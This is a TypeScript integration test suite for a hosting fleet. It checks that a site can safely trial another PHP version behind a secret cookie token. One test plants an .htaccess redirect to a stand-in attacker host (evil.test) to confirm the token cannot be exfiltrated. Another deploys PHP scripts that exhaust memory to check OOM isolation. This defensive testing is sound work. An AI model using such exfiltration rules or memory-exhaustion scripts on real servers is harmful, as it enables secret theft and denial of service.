import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as YAML from "yaml";
import { projectDirectory, pulumiEnvironment } from "../../lab/fleet";
import { sourcesUp, versionSources } from "../../lab/sources";
import { buildOf, changedConfig, curl, mixed, on, pulumi, ready, root, run, sleep, status, until, type Outcome } from "../lab/lab";
import { printRows, rollOut } from "../lab/rollouts";
import { anotherBuild, clear, place, put, served, type Build } from "./scripts";

/** The other version, by the build that tests/soak/php-versions.test.ts compiles too. */
const [tried, release] = ["8.4", "8.4.24"];
const page = "https://status.lab.test/build.php";
const tree = "/srv/sites/status/htdocs/build.php";
const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "trial-"));
let config = "";

/** The lab's stack with a second version, and with site files of its own. */
function withSecondVersion(text: string): string {
  const stack = YAML.parse(text) as { config: Record<string, unknown> };
  const keys = stack.config as {
    "fleet:php": Record<string, Build>;
    "fleet:mutualised": { php: Record<string, { versions: string[] }> };
    "fleet:sites": string;
  };
  keys["fleet:php"][tried] = anotherBuild(release, keys["fleet:php"]["8.2"]?.modules ?? []);
  keys["fleet:mutualised"].php["php-a"]?.versions.push(tried);
  fs.cpSync(path.resolve(root, keys["fleet:sites"]), scratch, { recursive: true });
  keys["fleet:sites"] = scratch;
  return YAML.stringify(stack, { aliasDuplicateObjects: false });
}

const vhost = (...words: string[]): Promise<Outcome> =>
  run("tsx", [path.join(root, "cli", "vhost.ts"), ...words, "-s", "lab", "--config-file", config], pulumiEnvironment(), projectDirectory);

/** The build that answers, and what the answer varies by. */
async function answered(...options: string[]): Promise<{ build: string; vary: string }> {
  const { out } = await curl(page, "-D", "-", ...options);
  return { build: /\/opt\/php\/([^/]+)\//.exec(out)?.[1] ?? out, vary: /^vary: (.*)\r$/im.exec(out)?.[1] ?? "" };
}

beforeAll(async () => {
  await sourcesUp(versionSources);
  config = changedConfig(withSecondVersion);
  await on("php1", `echo '<?php echo PHP_BINARY;' | sudo -u fleet-site-status tee ${tree}`);
});
afterAll(async () => {
  printRows();
  const { code, out, err } = await pulumi(["up", "--yes", "--skip-preview"]);
  expect(code, out + err).toBe(0);
  await on("php1", `sudo -u fleet-site-status rm -f ${tree}`);
  fs.rmSync(scratch, { recursive: true });
});

describe("a site tries another PHP while it serves", () => {
  let [url, token, own, trial] = ["", "", "", ""];
  const cookie = (value: string): string[] => ["-b", `__Host-fleet-trial=${value}`];

  it("begins by an edit of its file, under load, and no visitor notices", async () => {
    expect((await vhost("trial", "status", "--start", tried)).code).toBe(0);
    const { seen, code, said } = await rollOut("a trial begins", mixed, undefined, config);
    expect(code, said).toBe(0);
    // The VMs stay in service, and the site's own PHP is not touched.
    expect(said).not.toMatch(/php1: .*(drained|fleet-site-status)/);
    expect(seen.failed, JSON.stringify(seen.failures)).toBe(0);
    [own, trial] = [await buildOf("php1"), await buildOf("php1", "fleet-trial-status")];
    expect(trial).not.toBe(own);
  });

  it("the tester's URL is told by the tool and gives a cookie; whoever lacks it has the site's own PHP", async () => {
    const told = await vhost("trial", "status");
    url = /https:\S+fleet-trial\/[0-9a-f]{32}/.exec(told.out)?.[0] ?? "";
    token = url.split("/").at(-1) ?? "";
    expect(token, told.out + told.err).toMatch(/^[0-9a-f]{32}$/);
    const jar = path.join(scratch, "jar");
    const { out } = await curl(url, "-D", "-", "-o", "/dev/null", "-c", jar);
    expect(out).toMatch(/^HTTP\S+ 302[^]*^location: https:\/\/status.lab.test\/\r$/im);
    expect(await answered("-b", jar)).toEqual({ build: trial, vary: "Cookie" });
    expect(await answered()).toEqual({ build: own, vary: "Cookie" });
    await curl(url.replace(token, "off"), "-o", "/dev/null", "-b", jar, "-c", jar);
    expect((await answered("-b", jar)).build).toBe(own);
  });

  it("a wrong token, and the right one in another cookie, have the site's own PHP", async () => {
    expect((await answered(...cookie(token))).build).toBe(trial);
    const wrong = ["", "0".repeat(32), `${token}0`, `0${token}`];
    for (const value of wrong) expect((await answered(...cookie(value))).build, value).toBe(own);
    expect((await answered("-b", `other=__Host-fleet-trial=${token}`)).build).toBe(own);
  });

  it("runs as the site, in the site's box", async () => {
    const { out } = await curl("https://status.lab.test/", ...cookie(token));
    expect((JSON.parse(out) as { uid: number }).uid).toBe((await status()).uid);
    const units = "fleet-site-status.service fleet-trial-status.service";
    const shown = await on("php1", `systemctl show -p User,BindPaths,ReadWritePaths,IPAddressDeny,Slice ${units}`);
    const [site, trialBox] = shown.trim().split("\n\n");
    expect(trialBox).toBe(site);
  });

  it("its token is in no preview and in no file that others than root may read", async () => {
    const { out, err } = await pulumi(["preview", "--diff"], undefined, config);
    expect(out + err).not.toContain(token);
    const readable = `sudo stat -Lc %a /etc/fleet/vhosts/status.trial; grep -Rl ${token} /etc/fleet /etc/apache2 2>/dev/null || true`;
    expect(await on("web1", readable)).toBe("600\n");
    expect(await on("web1", `sudo grep -l ${token} /etc/fleet/vhosts/status.trial`)).toContain("status.trial");
  });

  it("its token is in no .htaccess, where a site may use what Apache has defined", async () => {
    const rule = 'Redirect 302 "/fleet-test/go" "http://evil.test/${fleet-trial-status}/${https}"\n';
    const target = `/srv/fleet/sites/wiki/${served}/.htaccess`;
    const write = `sudo install -d -m 755 $(dirname ${target}); echo ${Buffer.from(rule).toString("base64")} | base64 -d | sudo tee ${target}`;
    await on("nas1", write);
    try {
      const ask = async (): Promise<string> => (await curl("https://wiki.lab.test/fleet-test/go", "-D", "-", "-o", "/dev/null")).out;
      // What is defined for good is there: such a rule works.
      await until(async () => /^location: .*evil.*443/im.test(await ask()), 60, "the rule is in force");
      expect(await ask()).not.toContain(token);
    } finally {
      await clear("wiki");
    }
  });

  it("that takes more memory than is left ends alone, though the site holds more at that time", async () => {
    const holds =
      "<?php ini_set('memory_limit', '-1'); $held = str_repeat('x', 300 << 20); sleep(12); echo 'kept ', strlen($held) >> 20;\n";
    const takes = "<?php ini_set('memory_limit', '-1'); for ($held = []; ; ) $held[] = str_repeat('x', 1 << 20);\n";
    await put("status", "holds.php", holds, served);
    await put("status", "takes.php", takes, served);
    const shown = "systemctl show -p MainPID,NRestarts fleet-site-status.service";
    const looked = (): Promise<string[]> => Promise.all(["php1", "php2"].map((vm) => on(vm, shown)));
    const killed = async (unit: string): Promise<number[]> => {
      const events = `/sys/fs/cgroup/sites.slice/sites-status.slice/${unit}.service/memory.events`;
      const read = `awk '$1 == "oom_kill" { print $2 }' ${events} 2>/dev/null || true`;
      return Promise.all(["php1", "php2"].map(async (vm) => Number(await on(vm, read))));
    };
    try {
      for (let n = 0; n < 20; n++) await answered();
      const before = await looked();
      // One alone: two on the same VM would be more than the site may.
      const held = curl(`https://status.lab.test/${place}/holds.php`);
      await sleep(2);
      for (let n = 0; n < 6; n++) await curl(`https://status.lab.test/${place}/takes.php`, ...cookie(token));
      const trials = await killed("fleet-trial-status");
      expect((await held).out).toBe("kept 300");
      expect(Math.max(...trials), trials.join()).toBeGreaterThan(0);
      expect(await killed("fleet-site-status")).toEqual([0, 0]);
      // Its own request that takes too much ends alone too: the master stays.
      for (let n = 0; n < 4; n++) await curl(`https://status.lab.test/${place}/takes.php`);
      expect(Math.max(...(await killed("fleet-site-status")))).toBeGreaterThan(0);
      expect(await looked()).toEqual(before);
      for (let n = 0; n < 20; n++) expect((await answered()).build).toBe(own);
    } finally {
      await clear("status");
    }
  });

  it("one that is broken harms testers alone", async () => {
    const units = "fleet-trial-status.socket fleet-trial-status.service";
    for (const vm of ["php1", "php2"]) await on(vm, `sudo systemctl stop ${units}`);
    try {
      expect((await answered(...cookie(token))).build).not.toBe(trial);
      for (let i = 0; i < 20; i++) expect((await answered()).build).toBe(own);
      for (const vm of ["php1", "php2"]) await ready(vm);
    } finally {
      for (const vm of ["php1", "php2"]) await on(vm, "sudo systemctl start fleet-trial-status.socket");
    }
    await until(async () => (await answered(...cookie(token))).build === trial, 30, "the trial answers again");
  });

  it("ends by the move of the site to that PHP, and no request is lost", async () => {
    expect((await vhost("move-php", "status", tried)).code).toBe(0);
    const { seen, code, said } = await rollOut("a site moves to another PHP", mixed, undefined, config);
    expect(code, said).toBe(0);
    expect(said).toMatch(/php1: .*restart fleet-site-status.service/);
    expect(seen.failed, JSON.stringify(seen.failures)).toBe(0);
    expect(await answered()).toEqual({ build: trial, vary: "" });
    expect(
      await on("php1", "sudo find /etc/fleet/php-trial /etc/systemd/system -path '*php-trial/*' -type f -o -name 'fleet-trial-*'"),
    ).toBe("");
  });
});
